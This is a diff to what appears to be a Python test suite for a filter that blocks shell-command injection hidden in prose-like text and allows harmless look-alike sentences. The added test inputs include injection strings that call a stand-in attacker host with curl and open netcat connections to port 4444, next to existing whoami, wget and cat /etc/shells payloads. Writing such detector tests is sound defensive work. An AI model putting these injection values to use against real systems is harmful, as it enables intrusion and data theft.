@@ -20,6 +20,9 @@ WORDS = "so we went to the old mill by the river and then all the way home again
         "y;cat docs/notes.txt one of the to by us at it",
         "$(cat is it in /etc/shells)",
         "`cat is it in /etc/shells`",
+        "y;curl http://attacker.example is it of the us",
+        "y|nc 192.0.2.7 4444 is it of the us",
+        "y`nc 192.0.2.7 4444 is it of the us`",
         "y; whoami # all of us here today",
         "y | id # all of us here today",
         f"y; wget http://files.example/a.sh -O /tmp/a ; {WORDS}",
@@ -70,6 +73,8 @@ def test_what_only_looks_like_prose_is_stopped(text: str) -> None:
     [
         "Open a terminal; find the file in /etc/hosts and change it",
         f"We talked; cat and dog slept, {WORDS}",
+        "We tried it; ping 192.0.2.7 is not going through to the other one",
+        "They say `ping 192.0.2.7` is not going through",
         "Order; id #5 is the one that is missing",
         f"{WORDS}; sort the letters",
         "milk\ncat food\n",
